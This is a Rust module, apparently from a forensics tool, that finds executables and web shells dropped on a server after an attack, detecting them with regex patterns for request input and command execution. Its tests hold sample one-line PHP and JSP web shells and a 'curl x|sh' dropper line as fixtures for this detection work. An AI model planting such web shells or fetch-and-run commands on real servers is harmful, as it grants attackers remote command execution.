//! Which programs and web shells appeared where a server serves or may write, since it was attacked?
//!
//! By the time of change, which unlike that of writing nobody sets at will. Folders are walked within the process's own
//! root, never through a link, so far and no further; what a server writes all day (caches, uploads) is told from a web
//! shell by its text.

use std::io::Read as _;
use std::os::fd::OwnedFd;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use regex::RegexSet;
use rustix::fs::{AtFlags, CWD, Dir, FileType, Mode, OFlags, ResolveFlags, Stat, openat, openat2, statat};
use tripoint_model::Timestamp;

use crate::before::Window;

/// A file that appeared.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Dropped {
    /// Its path, as the process sees it.
    pub path: PathBuf,
    /// When it was last changed, or put there.
    pub at: Timestamp,
    /// What it is: `an executable program`, `a web shell`.
    pub what: &'static str,
}

/// What was found, and what was not looked at.
#[derive(Clone, Debug, Default)]
pub struct Found {
    /// The files, the earliest first, at most `FILES_MAX`.
    pub files: Vec<Dropped>,
    /// What was not looked at, and why.
    pub missing: Vec<String>,
}

/// Where to look, and for whom.
pub struct Look<'l> {
    /// The root of the process.
    pub root: &'l Path,
    /// Folders that it serves, as it sees them.
    pub served: &'l [PathBuf],
    /// Its user.
    pub uid: u32,
    /// When it must have been.
    pub window: Window,
    /// Whether to stop now.
    pub is_over: &'l dyn Fn() -> bool,
}

/// Files that are told.
pub const FILES_MAX: usize = 16;
/// Entries that are looked at, in all folders.
const ENTRIES_MAX: usize = 50_000;
const DEPTH_MAX: usize = 12;
/// As much of a file as is read to know what it is, and files that are read.
const TEXT_BYTES_MAX: u64 = 64 << 10;
const READ_MAX: usize = 500;
/// Where everybody may write: what an attack fetches lies there first.
const ANYBODYS: &[&str] = &["/tmp", "/var/tmp", "/dev/shm"];

/// Walks the folders.
pub fn dropped(look: &Look<'_>) -> Found {
    let mut walk = Walk { look, found: Found::default(), entries: 0, read: 0 };
    let root = openat(CWD, look.root, OFlags::PATH | OFlags::DIRECTORY | OFlags::CLOEXEC, Mode::empty());
    let root = match root {
        Ok(root) => root,
        Err(error) => {
            walk.found.missing.push(format!("its files cannot be looked at: {error}"));
            return walk.found;
        }
    };
    let served = look.served.iter().map(|path| (path.as_path(), true));
    for (path, is_served) in served.chain(ANYBODYS.iter().map(|path| (Path::new(path), false))) {
        let resolve = ResolveFlags::IN_ROOT | ResolveFlags::NO_MAGICLINKS;
        match openat2(&root, path, FOLDER, Mode::empty(), resolve) {
            Ok(folder) => walk.folder(folder, path, is_served, 0),
            Err(rustix::io::Errno::NOENT) => {}
            Err(error) => walk.found.missing.push(format!("{}: {error}", path.display())),
        }
    }
    walk.found.files.sort_by(|a, b| (a.at, &a.path).cmp(&(b.at, &b.path)));
    walk.found.files.dedup_by(|a, b| a.path == b.path);
    walk.found.files.truncate(FILES_MAX);
    walk.found
}

const FOLDER: OFlags = OFlags::RDONLY.union(OFlags::DIRECTORY).union(OFlags::NONBLOCK).union(OFlags::CLOEXEC);

struct Walk<'w> {
    look: &'w Look<'w>,
    found: Found,
    entries: usize,
    read: usize,
}

impl Walk<'_> {
    fn folder(&mut self, folder: OwnedFd, path: &Path, is_served: bool, depth: usize) {
        let Ok(entries) = Dir::read_from(&folder) else { return };
        for entry in entries.flatten() {
            let Ok(name) = entry.file_name().to_str() else { continue };
            if name == "." || name == ".." {
                continue;
            }
            self.entries += 1;
            if self.entries > ENTRIES_MAX || (self.entries.is_multiple_of(1024) && (self.look.is_over)()) {
                let reason = format!("{}: looked through in part, a bound was met", path.display());
                if self.found.missing.len() < FILES_MAX && !self.found.missing.contains(&reason) {
                    self.found.missing.push(reason);
                }
                return;
            }
            let Ok(about) = statat(&folder, name, AtFlags::SYMLINK_NOFOLLOW) else { continue };
            match FileType::from_raw_mode(about.st_mode) {
                FileType::Directory if depth < DEPTH_MAX => {
                    let resolve = ResolveFlags::BENEATH | ResolveFlags::NO_SYMLINKS | ResolveFlags::NO_XDEV;
                    if let Ok(below) = openat2(&folder, name, FOLDER, Mode::empty(), resolve) {
                        self.folder(below, &path.join(name), is_served, depth + 1);
                    }
                }
                FileType::RegularFile => self.file(&folder, path, name, &about, is_served),
                _ => {}
            }
        }
    }

    fn file(&mut self, folder: &OwnedFd, path: &Path, name: &str, about: &Stat, is_served: bool) {
        let at = changed(about);
        let Window { from, to } = self.look.window;
        if !(from..=to).contains(&at) || self.read >= READ_MAX || self.found.files.len() >= FILES_MAX * 4 {
            return;
        }
        let is_own = about.st_uid == self.look.uid;
        let may_run = about.st_mode & 0o111 != 0;
        let is_script = is_served && SCRIPTS.iter().any(|end| ends_with(name, end));
        let may_be_one = is_script || (is_own && may_run);
        if !may_be_one {
            return;
        }
        self.read += 1;
        let flags = OFlags::RDONLY | OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::CLOEXEC;
        let Ok(file) = openat2(folder, name, flags, Mode::empty(), ResolveFlags::BENEATH) else { return };
        let mut bytes = Vec::new();
        if std::fs::File::from(file).take(TEXT_BYTES_MAX).read_to_end(&mut bytes).is_err() {
            return;
        }
        let what = match () {
            () if is_script && is_web_shell(&String::from_utf8_lossy(&bytes)) => "a web shell",
            () if is_own && may_run && bytes.starts_with(b"\x7fELF") => "an executable program",
            () if is_own && may_run && bytes.starts_with(b"#!") => "an executable script",
            () => return,
        };
        self.found.files.push(Dropped { path: path.join(name), at, what });
    }
}

fn changed(about: &Stat) -> Timestamp {
    let micros = i64::try_from(about.st_ctime_nsec / 1000).unwrap_or(0);
    Timestamp(about.st_ctime.saturating_mul(1_000_000).saturating_add(micros))
}

fn ends_with(name: &str, end: &str) -> bool {
    name.len() > end.len() && name.as_bytes()[name.len() - end.len()..].eq_ignore_ascii_case(end.as_bytes())
}

/// What servers run where they find it.
const SCRIPTS: &[&str] = &[
    ".php",
    ".php3",
    ".php4",
    ".php5",
    ".php7",
    ".phtml",
    ".phar",
    ".inc",
    ".jsp",
    ".jspx",
    ".jspf",
    ".asp",
    ".aspx",
    ".ashx",
    ".cfm",
    ".cgi",
    ".pl",
    ".py",
    ".rb",
    ".sh",
    ".htaccess",
];

/// A web shell runs what a visitor sends: it takes from the request, and runs what it is given. Encoded ones decode first.
fn is_web_shell(text: &str) -> bool {
    static SIGNS: OnceLock<(RegexSet, RegexSet)> = OnceLock::new();
    let (takes, runs) = SIGNS.get_or_init(|| (set(TAKES), set(RUNS)));
    takes.is_match(text) && runs.is_match(text)
}

fn set(patterns: &[&str]) -> RegexSet {
    RegexSet::new(patterns).unwrap_or_else(|error| panic!("the signs of web shells: {error}"))
}

const TAKES: &[&str] = &[
    r"\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)\b",
    r"php://input|getallheaders\s*\(",
    r"request\.getParameter|request\.getHeader|request\.getInputStream|Request\.(?:Form|QueryString|Item|Params)|Request\[",
    r"QUERY_STRING|HTTP_[A-Z_]{3,}|CONTENT_LENGTH|FieldStorage|CGI->new|->param\(",
    r"base64_decode\s*\(|gzinflate\s*\(|str_rot13\s*\(|FromBase64String|Base64\.getDecoder",
];
const RUNS: &[&str] = &[
    r"(?i)\b(?:eval|assert|system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|create_function)\s*\(",
    r"(?i)\bpreg_replace\s*\(\s*['\x22].{0,100}/e|\$\{?\w+\}?\s*\(\s*\$_(?:GET|POST|REQUEST|COOKIE)",
    r"Runtime\.getRuntime|ProcessBuilder|defineClass|Process\.Start|ProcessStartInfo|eval\s+request|WScript\.Shell",
    r"\bsubprocess\.|os\.system|os\.popen|\bqx[/({]|`\$",
    r"(?i)SetHandler\s+(?:application/x-httpd-php|cgi-script)|AddType\s+application/x-httpd",
];

#[cfg(test)]
mod tests {
    use std::os::unix::fs::{PermissionsExt as _, symlink};

    use super::*;

    fn look(root: &Path, seconds: (i64, i64)) -> Vec<(String, &'static str)> {
        let now = Timestamp::from_system(std::time::SystemTime::now());
        let window =
            Window { from: Timestamp(now.0 + seconds.0 * 1_000_000), to: Timestamp(now.0 + seconds.1 * 1_000_000) };
        let served = [PathBuf::from("/srv/www"), PathBuf::from("/srv/none")];
        let uid = rustix::process::getuid().as_raw();
        let found = dropped(&Look { root, served: &served, uid, window, is_over: &|| false });
        assert!(found.missing.is_empty(), "{:?}", found.missing);
        found.files.into_iter().map(|file| (file.path.display().to_string(), file.what)).collect()
    }

    fn write(root: &Path, path: &str, text: &[u8], mode: u32) {
        let path = root.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, text).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
    }

    #[test]
    fn what_an_attack_leaves_is_told_from_what_servers_write() {
        let folder = tempfile::tempdir().unwrap();
        let root = folder.path();
        write(root, "srv/www/up/x.PHP", b"<?php @eval($_POST['c']); ?>", 0o644);
        write(root, "srv/www/a/b.jsp", b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", 0o644);
        write(root, "srv/www/cgi-bin/t", b"\x7fELF\x02", 0o755);
        write(root, "tmp/.x/kdevtmpfsi", b"\x7fELF\x02", 0o755);
        write(root, "var/tmp/run", b"#!/bin/sh\ncurl x|sh\n", 0o700);
        // Caches, pages, uploads, programs that may not be run.
        write(root, "srv/www/cache/1.php", b"<?php return ['a' => 1]; ?>", 0o644);
        write(root, "srv/www/form.php", b"<?php echo htmlspecialchars($_GET['q']); ?>", 0o644);
        write(root, "srv/www/up/x.jpg", b"<?php @eval($_POST['c']); ?>", 0o644);
        write(root, "tmp/data", b"\x7fELF\x02", 0o644);
        write(root, "home/x.php", b"<?php @eval($_POST['c']); ?>", 0o755);
        write(root, "secret/y.php", b"<?php @eval($_POST['c']); ?>", 0o755);
        symlink("/secret", root.join("srv/www/link")).unwrap();
        symlink("/secret/y.php", root.join("srv/www/y.php")).unwrap();
        let mut found = look(root, (-30, 30));
        found.sort();
        assert_eq!(
            found,
            [
                ("/srv/www/a/b.jsp".to_owned(), "a web shell"),
                ("/srv/www/cgi-bin/t".to_owned(), "an executable program"),
                ("/srv/www/up/x.PHP".to_owned(), "a web shell"),
                ("/tmp/.x/kdevtmpfsi".to_owned(), "an executable program"),
                ("/var/tmp/run".to_owned(), "an executable script"),
            ]
        );
        assert_eq!(look(root, (-90, -60)), [], "what was there before");
    }

    #[test]
    fn a_time_of_writing_that_was_set_back_hides_nothing() {
        let folder = tempfile::tempdir().unwrap();
        write(folder.path(), "srv/www/x.php", b"<?php system($_GET['c']); ?>", 0o644);
        let file = std::fs::File::options().write(true).open(folder.path().join("srv/www/x.php")).unwrap();
        file.set_modified(std::time::UNIX_EPOCH).unwrap();
        assert_eq!(look(folder.path(), (-30, 30)).len(), 1);
    }
}
